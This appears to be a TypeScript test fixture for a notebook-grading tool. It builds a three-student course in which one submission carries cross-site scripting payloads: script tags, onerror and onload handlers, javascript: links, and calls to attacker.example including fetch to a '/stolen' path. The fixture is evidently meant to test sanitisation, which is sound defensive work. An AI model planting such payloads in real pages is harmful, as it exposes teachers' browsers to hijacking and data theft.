/** A course of three students and one assignment, for tests: one of the three hands in whatever might run in a teacher's browser. */
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type Cell, notebookText, writeNotebook } from "gradlab/kernel/notebook";
import { openGradebook } from "../gradebook/index.ts";
import { release } from "../release/index.ts";
import { sampleCheck, sampleQuestion, sampleResult } from "../report/sample.ts";

export const TINY = "tiny-nets";
export const ATTACKER = "http://attacker.example";

const nbgrader = (grade_id: string, grade: boolean, solution: boolean, points: number) => ({
  nbgrader: { schema_version: 3, grade, solution, locked: grade && !solution, task: false, points, grade_id },
});

const CODE_OUTPUT = { outputs: [], execution_count: null };

const CELLS: Cell[] = [
  { cell_type: "markdown", id: "title", metadata: {}, source: "# Tiny nets" },
  { cell_type: "markdown", id: "task", metadata: {}, source: "## Task 1: double it" },
  {
    ...{ cell_type: "code" as const, id: "double", metadata: nbgrader("double", false, true, 0), ...CODE_OUTPUT },
    source: "export function double(x: number): number {\n  // BEGIN SOLUTION\n  return 2 * x;\n  // END SOLUTION\n}",
  },
  {
    ...{
      cell_type: "code" as const,
      id: "double-check",
      metadata: { ...nbgrader("double-check", true, false, 4), gradlab: { question: "double" } },
      ...CODE_OUTPUT,
    },
    source: 'import { check } from "gradlab/check";\n\ncheck.equal("twice three", double(3), 6);',
  },
  { cell_type: "markdown", id: "ask", metadata: {}, source: "## Question A: why twice?\n\nWhy is it $2x$?" },
  {
    ...{ cell_type: "markdown", id: "why", metadata: nbgrader("why", true, true, 3) },
    source:
      "Because $x + x = 2x$.\n\n**Rubric (3 points)**\n- 1 point: names the sum.\n- 2 points: gives a proof, or a reason.",
  },
];

/** Everything that a page might be made to run, load or send. */
const HOSTILE = `# <img src=x onerror="window.top.pwned=1"> <script>window.top.pwned=1</script>
[click](javascript:window.top.pwned=1) ![track](${ATTACKER}/pixel.png) $\\href{javascript:alert(1)}{x}$ <svg onload="window.top.pwned=1"></svg>
<form action="/logout" method="post"><button>Win</button></form>`;

const HOSTILE_HTML = `<script>window.top.pwned = 1; fetch("${ATTACKER}/stolen")</script><img src="${ATTACKER}/pixel.png" onerror="window.top.pwned=1">
<form action="${ATTACKER}/form"><input name="a" autofocus></form><meta http-equiv="refresh" content="0;url=${ATTACKER}/gone"><table><tr><td>drawn</td></tr></table>`;

const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40"><script>window.top.pwned=1</script><image href="${ATTACKER}/pixel.png"/><rect width="80" height="40" fill="red" onload="window.top.pwned=1"/></svg>`;

const FAIR_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="40"><rect width="80" height="40"/></svg>';

/** Digest of a student's submission, as far as these tests need one: it does not say whose it is. */
export function digestOf(student: string): string {
  return createHash("sha256").update(student).digest("hex");
}

/** Makes the folder and gives its path. */
export function makeTinyCourse(): string {
  const folder = mkdtempSync(join(tmpdir(), "gradlab-tiny-course-"));
  const source = { nbformat: 4 as const, nbformat_minor: 5, metadata: {}, cells: CELLS };
  mkdirSync(join(folder, "assignments", TINY), { recursive: true });
  writeNotebook(join(folder, "assignments", TINY, `${TINY}.ipynb`), source);
  writeFileSync(join(folder, "roster.csv"), "id,name\nada,Ada Lovelace\nbob,Bob Wild\nmallory,<b>Mallory</b>\n");
  writeFileSync(
    join(folder, "gradlab.yaml"),
    `course: Tiny course\nroster: roster.csv\nlate:\n  perDay: 10\nassignments:\n  - name: ${TINY}\n    due: 2027-03-01T00:00:00Z\n`,
  );
  const book = openGradebook(join(folder, "gradebook.sqlite"));
  const hand = (student: string, code: string, answer: string, points: number, received: string) => {
    const given = release(source).cells;
    const bytes = Buffer.from(notebookText({ ...source, cells: handedIn(given, code, answer) }));
    const result = sampleResult(student, questionsWith(points), {
      ...{
        assignment: TINY,
        max: 7,
        submission: { file: `${TINY}.ipynb`, sha256: digestOf(student), bytes: 1 },
      },
    });
    book.keep(`key-${student}`, result, [], received);
    book.keepNotebook(TINY, student, result.submission.sha256, bytes);
  };
  hand(
    "ada",
    "export function double(x: number): number {\n  return x + x;\n}",
    "Because $x + x = 2x$, **always**.",
    4,
    "2027-02-28T10:00:00Z",
  );
  hand("bob", "export function double(x: number): number {\n  return 3;\n}", "", 0, "2027-03-01T10:00:00Z");
  hand(
    "mallory",
    `// <script>window.top.pwned=1</script>\n${"export const double = 1;"}`,
    HOSTILE,
    0,
    "2027-02-28T11:00:00Z",
  );
  book.close();
  return folder;
}

function questionsWith(points: number) {
  const check = sampleCheck({ label: "twice three", kind: "equal", passed: points > 0, points, max: 4, found: null });
  const output = points > 0 ? "" : "<script>window.top.pwned=1</script>";
  return [
    sampleQuestion("double", [check], { output }),
    sampleQuestion("why", [], { manual: true, outcome: "manual", max: 3, replies: null }),
  ];
}

/** An empty answer leaves the stub. */
function handedIn(given: Cell[], code: string, answer: string): Cell[] {
  return given.map((cell) => {
    if (cell.id === "double") return { ...cell, source: code };
    if (cell.id === "why" && answer !== "") return { ...cell, source: answer };
    if (cell.id !== "double-check" || cell.cell_type !== "code") return cell;
    const html = { output_type: "display_data" as const, metadata: {}, data: { "text/html": HOSTILE_HTML } };
    const svg = { output_type: "display_data" as const, metadata: {}, data: { "image/svg+xml": HOSTILE_SVG } };
    const fair = { output_type: "display_data" as const, metadata: {}, data: { "image/svg+xml": FAIR_SVG } };
    return {
      ...cell,
      outputs: [{ output_type: "stream" as const, name: "stdout" as const, text: "passed\n" }, html, svg, fair],
    };
  });
}
